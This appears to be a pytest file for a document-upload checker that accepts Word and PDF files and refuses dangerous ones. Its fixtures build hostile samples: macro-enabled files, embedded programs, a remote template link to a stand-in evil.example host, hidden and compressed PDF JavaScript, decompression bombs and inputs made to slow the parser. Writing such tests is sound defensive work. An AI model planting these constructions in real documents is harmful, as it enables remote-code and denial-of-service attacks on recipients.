"""Documents that people send: Word and PDF are taken, whatever runs or leads out is refused."""

import contextlib
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from zipfile import ZipFile

import docx
import pytest

from audits.problems import Code, Problem
from files.documents import ending, is_document
from tests.files.rosters import plain_book


@cache
def word() -> bytes:
    """A Word document with a heading and a link to read on."""
    made, out = docx.Document(), BytesIO()
    made.add_heading("Terms of reference")
    made.part.relate_to("https://example.org", LINKS + "hyperlink", is_external=True)
    made.save(out)
    return out.getvalue()


LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def with_part(name: str, content: bytes) -> bytes:
    """The document with one more part in it."""
    out = BytesIO(word())
    with ZipFile(out, "a") as packed:
        packed.writestr(name, content)
    return out.getvalue()


def macros() -> bytes:
    """The document as one that may hold macros says it is."""
    out = BytesIO()
    with ZipFile(BytesIO(word())) as before, ZipFile(out, "w") as after:
        for part in before.infolist():
            content = before.read(part)
            if part.filename == "[Content_Types].xml":
                content = content.replace(
                    b"openxmlformats-officedocument.wordprocessingml.document.main",
                    b"ms-word.document.macroEnabled.main",
                )
            after.writestr(part.filename, content)
    return out.getvalue()


def pdf(body: bytes = b"", *, end: bytes = b"%%EOF") -> bytes:
    """A PDF with this in it."""
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + body + b"\nstartxref\n9\n" + end


def packed(body: bytes) -> bytes:
    """A PDF that has this in a packed part, where it is not seen at once."""
    return pdf(b"2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(body)
               + b"\nendstream endobj")  # fmt: skip


OUT = (b'<Relationships><Relationship Id="x" Type="' + LINKS.encode() + b'attachedTemplate" '
       b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')  # fmt: skip
TAKEN: dict[str, tuple[Callable[[], bytes], str]] = {
    "word": (word, ".docx"),
    "pdf": (pdf, ".pdf"),
    "packed pdf": (lambda: packed(b"<</Type/Page>>"), ".pdf"),
}
REFUSED: dict[str, tuple[Callable[[], bytes], Code]] = {
    "macros": (macros, Code.DOCUMENT_RUNS),
    "a program": (lambda: with_part("word/vbaProject.bin", b"x"), Code.DOCUMENT_RUNS),
    "another file": (lambda: with_part("word/embeddings/a.bin", b"x"), Code.DOCUMENT_RUNS),
    "a template from elsewhere": (lambda: with_part("word/_rels/settings.xml.rels", OUT),
                                  Code.DOCUMENT_RUNS),
    "a bomb": (lambda: with_part("word/media/a.png", b"0" * 61_000_000), Code.FILE_TOO_LARGE),
    "too large": (lambda: pdf(b"0" * 8_000_001), Code.FILE_TOO_LARGE),
    "an old document": (lambda: b"\xd0\xcf\x11\xe0W\0o\0r\0d\0D\0o\0c", Code.DOCUMENT_NONE),
    "half a document": (lambda: word()[:900], Code.DOCUMENT_NONE),
    "half a PDF": (lambda: pdf(end=b"")[:20], Code.DOCUMENT_NONE),
    "a workbook": (plain_book, Code.DOCUMENT_NONE),
    "a locked PDF": (lambda: pdf(b"trailer<</Encrypt 3 0 R>>"), Code.DOCUMENT_NONE),
    "a script": (lambda: pdf(b"<</S/JavaScript/JS(app.alert)>>"), Code.DOCUMENT_RUNS),
    "a hidden script": (lambda: pdf(b"<</S/J#61vaScript>>"), Code.DOCUMENT_RUNS),
    "a packed script": (lambda: packed(b"<</S/JavaScript>>"), Code.DOCUMENT_RUNS),
    "two packed scripts": (lambda: packed(b"<</Type/Page>>") + packed(b"<</S/JavaScript>>"),
                           Code.DOCUMENT_RUNS),
    "a packed bomb": (lambda: packed(b"0" * 61_000_000), Code.FILE_TOO_LARGE),
    "a file in a PDF": (lambda: pdf(b"<</EmbeddedFiles 3 0 R>>"), Code.DOCUMENT_RUNS),
}  # fmt: skip


@pytest.mark.parametrize(("made", "end"), TAKEN.values(), ids=TAKEN)
def test_document_is_taken(made: Callable[[], bytes], end: str) -> None:
    """Words, pictures and ordinary links may be in it."""
    assert is_document(made())
    assert ending(made()) == end


@pytest.mark.parametrize(("made", "code"), REFUSED.values(), ids=REFUSED)
def test_document_is_refused(made: Callable[[], bytes], code: Code) -> None:
    """Programs, other files, links that open by themselves, bombs, locks, and no document."""
    with pytest.raises(Problem) as told:
        ending(made())
    assert told.value.code is code


def test_workbooks_are_no_documents() -> None:
    """A roster or a tool that is dropped into the chat is told from a document."""
    assert not is_document(plain_book())
    assert not is_document(b"Name,Work e-mail\nA,b@x.example\n")
    assert is_document(macros())


SLOW: dict[str, Callable[[], bytes]] = {
    "marks without parts": lambda: pdf(b"/ObjStm " * 900_000),
    "parts without end": lambda: pdf(b"/ObjStm stream\n" * 500_000),
    "links without end": lambda: with_part("word/_rels/x.rels", b"<Relationship " * 140_000),
    "many parts": lambda: pdf(b"#41 stream\nendstream\n" * 300_000),
    "escapes": lambda: pdf(b"#41" * 2_000_000),
}


@pytest.mark.parametrize("made", SLOW.values(), ids=SLOW)
def test_document_made_to_be_slow_is_done_with_at_once(made: Callable[[], bytes]) -> None:
    """Each byte is passed a few times, never once for each other byte: else this would not end."""
    with contextlib.suppress(Problem):
        assert ending(made()) in {".pdf", ".docx"}
